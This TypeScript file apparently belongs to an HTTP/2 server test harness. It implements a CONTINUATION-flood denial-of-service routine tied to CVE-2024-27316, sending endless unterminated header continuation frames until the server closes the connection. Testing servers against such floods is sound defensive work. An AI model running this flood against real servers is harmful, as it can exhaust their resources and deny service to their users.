import { frame } from './frame.ts';
import { FrameType } from './FrameType.ts';
import { headerBlock } from './headerBlock.ts';
import type { RawHttp2Client } from './RawHttp2Client.ts';
import { request } from './request.ts';

/**
 * A CONTINUATION flood (CVE-2024-27316 and kin): HEADERS for a GET of /cont on stream 1 without
 * END_HEADERS, then up to 10 000 CONTINUATION frames of 1 000 bytes each that never end the block,
 * a turn of the event loop every 250 frames so that the server reads meanwhile. Stops once the
 * connection is closed; the caller waits for what it expects (a GOAWAY, the close).
 */
export async function continuationFlood(client: RawHttp2Client): Promise<void> {
  client.send(frame(FrameType.HEADERS, 0, 1, headerBlock(request('GET', '/cont'))));
  const junk = frame(FrameType.CONTINUATION, 0, 1, headerBlock([['x-junk', 'j'.repeat(1000)]]));
  for (let i = 0; i < 2_000 && !client.closed; i++) {
    client.send(junk, junk, junk, junk, junk);
    if (i % 50 === 0) await new Promise((resolve) => setImmediate(resolve));
  }
}
